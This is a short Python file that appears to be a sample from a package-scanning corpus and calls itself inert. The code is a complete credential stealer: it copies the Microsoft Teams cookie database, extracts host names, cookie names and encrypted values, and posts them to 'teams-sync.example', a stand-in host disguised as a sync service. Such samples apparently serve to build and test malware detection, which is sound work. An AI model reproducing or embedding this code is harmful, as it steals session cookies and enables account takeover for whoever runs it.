# pkgguard corpus 782 (browser-data), modelled on [stealer-profile]; inert, never run.
import os
import shutil
import sqlite3
import tempfile
import urllib.request

source = os.path.join(os.environ.get("APPDATA", ""), "Microsoft", "Teams", "Cookies")
if os.path.exists(source):
    copy = os.path.join(tempfile.mkdtemp(), "c.db")
    shutil.copyfile(source, copy)
    rows = sqlite3.connect(copy).execute("SELECT host_key, name, encrypted_value FROM cookies").fetchall()
    body = "\n".join(f"{h}\t{n}\t{v.hex()}" for h, n, v in rows).encode()
    urllib.request.urlopen(urllib.request.Request("https://teams-sync.example/c", data=body), timeout=10)
